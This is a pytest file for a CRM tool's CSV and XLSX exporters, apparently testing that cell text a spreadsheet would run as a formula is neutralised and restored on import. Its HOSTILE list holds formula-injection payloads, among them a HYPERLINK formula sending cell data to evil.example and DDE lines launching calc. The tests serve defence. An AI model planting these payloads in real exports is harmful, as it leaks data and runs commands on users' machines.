"""Issue 21.1: text that a spreadsheet would run as a formula is neutralised in every CSV and
XLSX writer, numbers and phones stay as they are, and import-csv undoes the guard."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from crm_tui.cli.main import main
from crm_tui.domain.spreadsheet import FORMULA_STARTS, guard_cell, unguard_cell
from crm_tui.reports.base import Column, ReportResult
from crm_tui.reports.outputs import to_csv, write_xlsx
from crm_tui.screens.reports.panel_export import write_report
from tests.unit.exchange.helpers import BASE

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"y")', "=1+1", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "\t=1+1", "\r=1+1"]
HARMLESS_NUMBERS = ["-1500.00", "+7 495 123-45-67", "+74951234567", "-5", "12"]


def _dangerous(cell: str) -> bool:
    return cell[:1] in FORMULA_STARTS


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_guarded(value: str) -> None:
    assert guard_cell(value) == "'" + value
    assert unguard_cell(guard_cell(value)) == value


@pytest.mark.parametrize("value", HARMLESS_NUMBERS)
def test_numbers_and_phones_stay(value: str) -> None:
    assert guard_cell(value) == value


@given(st.text())
def test_any_text_round_trips_and_is_never_a_formula(value: str) -> None:
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    if _dangerous(guarded):  # only numbers and phones may start so
        assert guarded == value and any(c.isdigit() for c in value)
        assert not any(c.isalpha() or c in "(|@=!&\"'" for c in value)


def _result() -> ReportResult:
    columns = [Column("topic", "Topic"), Column("amount", "Amount", "money")]
    rows = [{"topic": value, "amount": "-10.50"} for value in HOSTILE]
    rows.append({"topic": "+7 495 123-45-67", "amount": "1.00"})
    return ReportResult("event-calendar", "Event calendar", {}, columns, rows)


def test_report_csv_is_guarded() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_result()))))[1:]
    assert [row[0] for row in rows[:-1]] == ["'" + value for value in HOSTILE]
    assert rows[-1] == ["+7 495 123-45-67", "1.00"]
    assert all(row[1] in ("-10.50", "1.00") for row in rows)


def _check_workbook(path: Path) -> None:
    sheet = load_workbook(path).active
    assert sheet is not None
    for index, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=index, column=1)
        assert cell.data_type == "s"
        assert cell.value == value.replace("\r", "\n")  # XML reads a CR as a line feed
        assert sheet.cell(row=index, column=2).value == -10.5  # still a number
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_report_xlsx_has_text_cells_not_formulas(tmp_path: Path) -> None:
    target = tmp_path / "r.xlsx"
    write_xlsx(_result(), target)
    _check_workbook(target)


def test_report_panel_exports_are_guarded(tmp_path: Path) -> None:
    write_report(_result(), tmp_path / "p.xlsx")
    _check_workbook(tmp_path / "p.xlsx")
    write_report(_result(), tmp_path / "p.csv")
    text = (tmp_path / "p.csv").read_bytes().decode("utf-8")
    assert "\n'=1+1," in text and "\n=1+1" not in text


def _hostile_database(tmp_path: Path) -> str:
    records = [dict(r) for r in BASE if r["type"] in (
        "region", "stage", "deal_kind", "user", "partner_role", "contact_role")]
    records.append({"type": "partner", "id": "P1", "name": HOSTILE[0], "roles": ["client"],
                    "manager": "ivanov"})
    records.append({"type": "partner", "id": "P2", "name": "@SUM(A1)", "roles": ["client"]})
    records.append({"type": "contact", "id": "K1", "partner": "P1", "name": "X",
                    "phones": ["+7 495 210-15-47"], "emails": ["a@example.ru"]})
    records.append({"type": "interaction", "id": "I1", "kind": "call", "topic": "=1+1",
                    "at": "2026-01-10T10:00", "status": "in_progress", "partner": "P1"})
    source = tmp_path / "in.jsonl"
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records),
                      encoding="utf-8")
    database = str(tmp_path / "h.sqlite3")
    assert main(["--db", database, "import", str(source)]) == 0
    return database


def test_export_csv_partners_guards_and_import_csv_restores(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    database = _hostile_database(tmp_path)
    target = tmp_path / "partners.csv"
    assert main(["--db", database, "export-csv", "partners", str(target)]) == 0
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert [row["name"] for row in rows] == ["'" + HOSTILE[0], "'@SUM(A1)"]
    assert rows[0]["phone"] == "+74952101547"
    fresh = str(tmp_path / "fresh.sqlite3")
    users = tmp_path / "users.jsonl"
    users.write_text(json.dumps(BASE[13], ensure_ascii=False) + "\n", encoding="utf-8")
    assert main(["--db", fresh, "import", str(users)]) == 0
    assert main(["--db", fresh, "import-csv", "partners", str(target)]) == 0, \
        capsys.readouterr().err
    again = tmp_path / "again.csv"
    assert main(["--db", fresh, "export-csv", "partners", str(again)]) == 0
    names = [row["name"] for row in csv.DictReader(again.open(encoding="utf-8", newline=""))]
    # Stored as it was: a name kept with its guard would come out as "''=…".
    assert names == ["'" + HOSTILE[0], "'@SUM(A1)"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_crm_report_formats_are_guarded(tmp_path: Path, fmt: str) -> None:
    database = _hostile_database(tmp_path)
    target = tmp_path / f"calendar.{fmt}"
    assert main(["--db", database, "report", "event-calendar", "--format", fmt,
                 "--output", str(target), "--from", "2026-01-01", "--to", "2026-01-31"]) == 0
    if fmt == "csv":
        rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
        assert rows[0]["topic"] == "'=1+1" and rows[0]["partner"] == "'" + HOSTILE[0]
        return
    sheet = load_workbook(target).active
    assert sheet is not None
    values = [cell.value for cell in sheet[2]]
    assert "=1+1" in values and HOSTILE[0] in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_report_csv_round_trips_any_text(values: list[str]) -> None:
    result = ReportResult("r", "R", {}, [Column("topic", "Topic")],
                          [{"topic": value} for value in values])
    rows = list(csv.reader(io.StringIO(to_csv(result), newline="")))[1:]
    cells = [row[0] if row else "" for row in rows]
    assert all(not _dangerous(cell) or cell == guard_cell(cell) for cell in cells)
    assert [unguard_cell(cell) for cell in cells] == values
